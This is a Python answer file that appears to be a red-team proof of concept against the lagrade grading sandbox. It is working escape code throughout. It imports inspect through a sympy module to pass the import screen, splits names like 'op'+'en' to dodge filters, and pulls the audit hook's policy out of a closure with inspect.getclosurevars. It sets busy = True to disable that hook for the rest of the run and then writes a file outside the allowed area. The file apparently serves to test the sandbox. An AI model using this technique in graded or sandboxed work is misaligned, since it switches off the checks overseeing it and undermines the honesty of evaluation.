"""effect: write-outside
tries: inspect.getclosurevars(parse_expr) gives the hook's policy; busy = True switches it off; then the real open writes into the drop folder.

Route 2 as found, with the busy flag.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.printing.printer import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    B["op" + "en"]("/tmp/lagrade-redteam/drop/pwned-r2_closure_busy_write_drop", "w").write("written by an answer file")


# route 2: lagrade replaces sympy's parse_expr by a closure over the hook's policy object;
# inspect.getclosurevars reads __closure__ (not audited) and hands the policy over. busy = True
# makes the hook return at once for every event, for the rest of the run.
parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
policy = inspect.getclosurevars(members(parser)["parse_expr"]).nonlocals.get("policy") if parser else None
if policy is not None:
    policy.busy = True
work()
